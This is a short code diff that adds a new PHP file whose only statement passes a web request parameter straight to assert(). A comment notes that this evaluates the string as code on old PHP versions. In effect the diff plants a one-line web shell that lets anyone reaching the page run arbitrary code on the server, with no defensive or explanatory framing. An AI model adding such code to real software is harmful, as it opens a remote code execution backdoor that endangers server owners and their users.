@@ -1,0 +1,3 @@
+<?php
+// assert of a string evaluates it on old PHP.
+assert($_GET['check']);
